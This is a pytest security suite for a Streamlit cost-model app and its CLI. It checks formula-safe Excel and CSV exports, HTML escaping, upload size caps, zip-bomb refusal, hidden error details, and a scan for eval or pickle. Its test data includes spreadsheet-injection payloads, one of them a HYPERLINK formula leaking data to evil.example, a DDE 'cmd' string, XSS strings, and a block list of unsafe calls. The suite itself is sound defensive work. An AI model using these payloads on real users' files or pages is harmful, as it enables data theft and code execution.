"""Security checks without a browser: formula-safe exports, size caps, no unsafe loading of user
data, and error details hidden from users even where Streamlit Community Cloud overrides the
config (the browser half is tests/e2e/test_security.py)."""

from __future__ import annotations

import ast
import contextlib
import csv
import dataclasses
import io
import json
import tomllib
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit import config as st_config
from streamlit.testing.v1 import AppTest

import vcio_model as vm
from vcio_app import brand as br
from vcio_app import charts, reports
from vcio_app.content import tables
from vcio_app.frame import page as ui
from vcio_app.scenario import files as scenario_files
from vcio_app.scenario import links as share
from vcio_model import Project, Scenario, ScenarioError, cli
from vcio_model.assumptions import DataFileError, load_assumptions
from vcio_model.cli.output import formula_safe

ROOT = Path(__file__).resolve().parents[2]
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
SECRET = "SECRET-DETAIL-7f3a"


def _unsafe(text: str) -> bool:
    return text.startswith(tuple(PREFIXES))


# ---------------------------------------------------------------------------------- Excel
@pytest.fixture(scope="module")
def hostile_workbook():
    """The Excel report of a scenario, brand and rate card whose every text starts a formula."""
    sc = Scenario(
        company=PAYLOADS[0][:80],
        projects=[
            Project(name=p.strip()[:80] if p.strip() else "x", start_year=1) for p in PAYLOADS
        ]
        + [Project(name=p[:80]) for p in ("=1+1", "+1", "-1", "@A1")],
        assumptions={"vcio_hourly_rate": 190.0},
    )
    brand = br.Brand(msp_name="=1+1", contact="@evil", internal_notes="=SECRET()")
    card = br.RateCard({"vcio_hourly_rate": 190.0}, notes={"vcio_hourly_rate": "-1+1"})
    rows = br.sources_with_rate_card(
        vm.load_assumptions().with_overrides(sc.assumptions).to_rows(), card
    )
    rows = [{**r, "notes": PAYLOADS[i % len(PAYLOADS)]} for i, r in enumerate(rows)]
    data = reports.excel_report(vm.compare(sc), brand, rows)
    return load_workbook(io.BytesIO(data))


def test_excel_text_cells_can_never_run_as_formulas(hostile_workbook):
    cells = [c for ws in hostile_workbook for row in ws.iter_rows() for c in row]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert len(texts) > 200
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    bad = [(c.parent.title, c.coordinate, c.value) for c in texts if _unsafe(c.value)]
    assert bad == []
    # the payloads are still there, readable, behind the apostrophe
    values = {c.value for c in texts}
    assert "'" + PAYLOADS[0][:80] in values and "'=1+1" in values and "'@A1" in values


def test_excel_never_carries_internal_notes(hostile_workbook):
    texts = [c.value for ws in hostile_workbook for row in ws.iter_rows() for c in row]
    assert not any(isinstance(t, str) and "SECRET" in t for t in texts)
    props = hostile_workbook.properties
    assert not _unsafe(props.creator or "") and not _unsafe(props.title or "")


@pytest.mark.parametrize("payload", PAYLOADS + ["plain", "", "'=already"])
def test_safe_text(payload):
    out = reports.safe_text(payload)
    assert not _unsafe(out)
    assert out.removeprefix("'") == payload or payload.startswith("'")


# ---------------------------------------------------------------------------------- CSV (CLI)
def _run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(argv)
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def hostile_assumptions(tmp_path_factory) -> Path:
    """data/assumptions.csv with every label, unit and group turned into a formula."""
    text = (ROOT / "data" / "assumptions.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    for i, r in enumerate(rows):
        p = PAYLOADS[i % len(PAYLOADS)]
        r["label"], r["group"], r["notes"], r["source"] = p, p, p, p
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(rows[0]), quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    path = tmp_path_factory.mktemp("hostile") / "assumptions.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


@pytest.mark.parametrize("command", ["compare", "frontier", "simulate", "sensitivity"])
def test_cli_csv_cells_can_never_run_as_formulas(command, hostile_assumptions):
    argv = [command, "--format", "csv", "--assumptions", str(hostile_assumptions)]
    argv += {"simulate": ["--trials", "50"], "frontier": ["--grid-employees", "10,100"]}.get(
        command, []
    )
    code, out, err = _run(argv)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert len(rows) > 2
    bad = [cell for row in rows for cell in row if _unsafe(cell) and not _number(cell)]
    assert bad == []
    if command == "sensitivity":  # the labels came from the file: kept, behind an apostrophe
        assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def _number(cell: str) -> bool:
    """Negative numbers start with '-' and are not formulas."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formula_safe_leaves_numbers_alone():
    assert formula_safe(-5.0) == -5.0 and formula_safe("-x") == "'-x"
    assert formula_safe("plain") == "plain"


# ---------------------------------------------------------------------------------- size caps
def test_uploads_over_the_cap_are_refused_with_a_message(tmp_path):
    big = b'{"employees": 45' + b" " * scenario_files.MAX_UPLOAD_BYTES + b"}"
    with pytest.raises(ScenarioError, match=r"^up\.json: file is larger than 200 kB$"):
        scenario_files.read_uploaded_scenario(big, "up.json")
    with pytest.raises(br.BrandError, match=r"card\.csv: file is larger than 100 kB"):
        br.load_rate_card(b"key,value\n" + b"x" * br.MAX_RATE_CARD_BYTES, "card.csv")
    with pytest.raises(br.BrandError, match=r"brand\.json: file is larger than 400 kB"):
        br.parse_brand(b"{" + b" " * br.MAX_BRAND_BYTES + b"}", "brand.json")
    with pytest.raises(ScenarioError, match=r"'s' .* too long"):
        share.decode_extra("A" * (share.MAX_ENCODED_CHARS + 1))
    path = tmp_path / "big.csv"
    path.write_bytes(b"x" * 1_000_001)
    with pytest.raises(DataFileError, match=r"larger than 1000 kB"):
        load_assumptions(path)


def test_a_zip_bomb_in_the_link_is_refused():
    import base64
    import zlib

    bomb = base64.urlsafe_b64encode(zlib.compress(b" " * 5_000_000, 9)).decode()
    assert len(bomb) < share.MAX_ENCODED_CHARS  # it passes the length cap
    with pytest.raises(ScenarioError, match=f"larger than {share.MAX_DECODED_BYTES // 1000} kB"):
        share.decode_extra(bomb)


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_devices_are_not_read(device):
    """A path to an endless device is refused before any byte is read (it used to read until
    memory ran out, then up to the cap): only regular files are read (vcio_model/files.py)."""
    if not Path(device).exists():
        pytest.skip(f"no {device}")
    with pytest.raises(ScenarioError, match="not a regular file but a device"):
        Scenario.from_file(device)
    with pytest.raises(br.BrandError, match="not a regular file but a device"):
        br.load_rate_card(device)
    with pytest.raises(br.BrandError, match="not a regular file but a device"):
        br.load_brand(device)
    with pytest.raises(DataFileError, match="not a regular file but a device"):
        load_assumptions(device)
    code, _, err = _run(["compare", "--scenario", device])
    assert code == 2 and f"{device}: cannot read the scenario file (not a regular file" in err


def test_every_file_uploader_is_capped():
    """Streamlit's own limit (server.maxUploadSize, 200 MB by default) is far too high: each
    st.file_uploader passes max_upload_size (in MB)."""
    calls = [
        node
        for path in _sources()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and _name(node.func).endswith("file_uploader")
    ]
    assert calls, "no file_uploader found: update this test"
    for call in calls:
        kw = {k.arg: k.value for k in call.keywords}
        assert "max_upload_size" in kw, ast.unparse(call)
        assert isinstance(kw["max_upload_size"], ast.Constant) and kw["max_upload_size"].value <= 1


# ---------------------------------------------------------------------------------- no eval
UNSAFE_MODULES = {"pickle", "cPickle", "dill", "cloudpickle", "marshal", "shelve", "joblib"}
UNSAFE_CALLS = {"eval", "exec", "compile", "__import__", "yaml.load", "yaml.unsafe_load",
                "pd.read_pickle", "pandas.read_pickle", "pickle.loads", "pickle.load",
                "np.load", "numpy.load", "os.system", "subprocess.getoutput"}  # fmt: skip


def _sources() -> list[Path]:
    files = [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]
    for pkg in ("vcio_app", "vcio_model"):
        files += sorted((ROOT / pkg).rglob("*.py"))
    return files


def _name(func: ast.AST) -> str:
    if isinstance(func, ast.Name):
        return func.id
    if isinstance(func, ast.Attribute):
        return f"{_name(func.value)}.{func.attr}"
    return ""


def test_no_module_unpickles_or_evaluates_anything():
    problems = []
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        where = path.relative_to(ROOT)
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names]
                mods = names if isinstance(node, ast.Import) else [node.module or ""]
                for m in mods:
                    if m.split(".")[0] in UNSAFE_MODULES or m == "yaml":
                        problems.append(f"{where}:{node.lineno} imports {m}")
            elif isinstance(node, ast.Call):
                name = _name(node.func)
                fixed = name == "__import__" and isinstance(node.args[0], ast.Constant)
                if name in UNSAFE_CALLS and not fixed or name.endswith(".read_pickle"):
                    problems.append(f"{where}:{node.lineno} calls {name}")
                for k in node.keywords:
                    if k.arg == "shell" and not (
                        isinstance(k.value, ast.Constant) and k.value.value is False
                    ):
                        problems.append(f"{where}:{node.lineno} runs a shell")
                    if k.arg == "allow_pickle":
                        problems.append(f"{where}:{node.lineno} allows pickle")
                    if k.arg == "unsafe_allow_html" and not (
                        isinstance(k.value, ast.Constant) and k.value.value is False
                    ):
                        problems.append(f"{where}:{node.lineno} renders raw HTML from markdown")
    assert problems == []


def test_the_scan_would_see_them():
    """The checks above are not vacuous."""
    tree = ast.parse(
        "import pickle\neval('1')\nyaml.load(x)\nst.markdown(x, unsafe_allow_html=True)"
    )
    calls = [_name(n.func) for n in ast.walk(tree) if isinstance(n, ast.Call)]
    assert {"eval", "yaml.load", "st.markdown"} <= set(calls)


def _sink(path: Path, node: ast.Call) -> tuple[str, str]:
    return path.name, ast.unparse(node.args[0]) if node.args else ""


def test_user_text_reaches_html_only_through_st_html_with_escaping():
    """Only these places write HTML: the brand strip (escaped in brand.header_html, with the
    presentation CSS built from a checked colour), the option cards (names from options.csv,
    escaped in ui.cards_html), the sidebar's margin charts (SVG images, their text escaped in
    charts.slider_sparkline, tested in test_charts; the note above the first is a constant), the
    tables (tables.html_table) and the bar
    charts (charts.bars, through ui.html_chart), each escaped where it is built (below).
    No raw HTML in Markdown, no components.html."""
    found = []
    for path in _sources():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = _name(node.func)
                raw = any(
                    k.arg == "unsafe_allow_html"
                    and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                    for k in node.keywords
                )
                if raw or name.endswith(("st.html", "components.html", "components.v1.html")):
                    found.append(_sink(path, node))
    assert sorted(found) == [
        ("header.py", "br.header_html(shown, extra_css=extra)"),
        ("page.py", "cards_html(c)"),
        ("page.py", "make()"),  # html_chart: figures.bars_html, from charts.bars
        ("presentation.py", "NAV_CSS"),  # a constant: the presentation page buttons' style
        ("sidebar.py", "SPARK_NOTE + chart if first else chart"),
        ("tables.py", "html_table(df, **kw)"),
    ]
    c = vm.compare(Scenario())
    bad = dataclasses.replace(c.options[0], short_name="<img src=x onerror=y()>")
    bad_c = dataclasses.replace(c, options=[bad, *c.options[1:]])
    cards = ui.cards_html(bad_c)
    assert "<img src=x" not in cards and "&lt;img src=x onerror=y()&gt;" in cards
    brand = br.Brand(msp_name="<script>x()</script>", contact='"><img src=x onerror=y()>')
    html = br.header_html(brand)
    assert "<script>x()" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html and "&quot;&gt;&lt;img" in html
    assert br.presentation_css("red;}</style><script>") == br.presentation_css("#1f5fa8")
    evil = "<img src=x onerror=y()>"
    table = tables.html_table(pd.DataFrame({"Project": [evil], "Year": [1]}), label=evil)
    assert "<img src=x" not in table and table.count("&lt;img src=x onerror=y()&gt;") == 2
    for bars in (charts.option_bars(bad_c, {o.id: o.npv for o in bad_c.options}, evil),
                 charts.breakdown_bars(bad_c, note=evil)):  # fmt: skip
        assert "<img src=x" not in bars and "&lt;img src=x onerror=y()&gt;" in bars


def test_html_report_escapes_every_user_text():
    payload = "<img src=x onerror=window.__xss=1><script>window.__xss=1</script>"
    sc = Scenario(company=payload[:80], projects=[Project(name=payload[:80])])
    brand = br.Brand(msp_name=payload[:80], contact=payload[:200])
    rows = vm.load_assumptions().to_rows()
    rows[0] = {**rows[0], "notes": payload, "source": payload, "label": payload}
    text = reports.html_report(vm.compare(sc), brand, rows)
    assert "<img src=x" not in text and "<script>window.__xss" not in text
    assert "&lt;img src=x onerror=window.__xss=1&gt;" in text


# ---------------------------------------------------------------------------------- error details
def test_config_hides_error_details_and_data_export():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"
    assert config["client"]["disableDataExport"] is True


def test_app_sets_show_error_details_where_cloud_cannot_override_it():
    """Cloud starts Streamlit with its own client.showErrorDetails (false, which still shows the
    exception type and traceback), above config.toml. A value set by the script at run time wins,
    so app.py sets it before anything that could fail."""
    tree = ast.parse((ROOT / "app.py").read_text(encoding="utf-8"))
    body = [
        n
        for n in tree.body
        if not isinstance(n, ast.Import | ast.ImportFrom)
        and not (isinstance(n, ast.Expr) and isinstance(n.value, ast.Constant))  # the docstring
    ]
    first = ast.unparse(body[0])
    assert first == "st.set_option('client.showErrorDetails', 'none')", first


@pytest.fixture
def cloud_config():
    """Streamlit's config as Community Cloud leaves it: showErrorDetails forced to false."""
    old = st_config.get_option("client.showErrorDetails")
    st_config.set_option("client.showErrorDetails", "false", "command-line argument: Cloud")
    yield
    st_config.set_option("client.showErrorDetails", old)


def _boom(*_a, **_k):
    raise RuntimeError(f"{SECRET} in /srv/app/vcio_app/secret_path.py")


def test_an_exception_in_the_app_shows_no_details_under_clouds_config(cloud_config, monkeypatch):
    from vcio_app.frame import sidebar

    # chrome.run calls it on every page before any part it isolates (vcio_app/guard.py): an
    # exception there still reaches Streamlit's own handler
    monkeypatch.setattr(sidebar, "settle_inputs", _boom)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    assert at.exception, "the forced exception did not happen"
    proto = at.exception[0].proto
    shown = json.dumps([proto.type, proto.message, list(proto.stack_trace)])
    assert SECRET not in shown and "RuntimeError" not in shown and "secret_path" not in shown
    assert not proto.type and not proto.stack_trace
    assert "error" in proto.message.lower()  # the generic sentence


def test_without_the_line_in_app_py_clouds_config_would_leak(cloud_config, monkeypatch):
    """The control: the same failure with st.set_option made a no-op shows the traceback, so the
    test above passes because of app.py's line and not by chance."""
    import streamlit as st

    from vcio_app.frame import sidebar

    monkeypatch.setattr(sidebar, "settle_inputs", _boom)
    monkeypatch.setattr(st, "set_option", lambda *a, **k: None)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    proto = at.exception[0].proto
    assert "RuntimeError" in proto.type and proto.stack_trace


def test_no_secrets_are_needed():
    """The app runs with no secrets file (nothing to leak, nothing to configure on Cloud); the one
    secret it can read, the sales team's passphrase, is read in vcio_app/sales.py alone."""
    assert not (ROOT / ".streamlit" / "secrets.toml").exists()
    uses = [
        p.name
        for p in _sources()
        if "st.secrets" in p.read_text(encoding="utf-8") or "os.environ[" in p.read_text()
    ]
    assert uses == ["sales.py"]
